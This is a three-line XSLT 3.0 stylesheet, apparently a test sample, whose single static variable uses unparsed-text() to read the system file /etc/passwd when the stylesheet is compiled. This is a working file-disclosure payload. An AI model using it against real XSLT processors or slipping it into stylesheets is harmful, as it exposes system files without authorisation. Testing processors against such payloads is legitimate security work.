<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:variable name="x" static="yes" select="unparsed-text(&apos;/etc/passwd&apos;)"/>
</xsl:stylesheet>
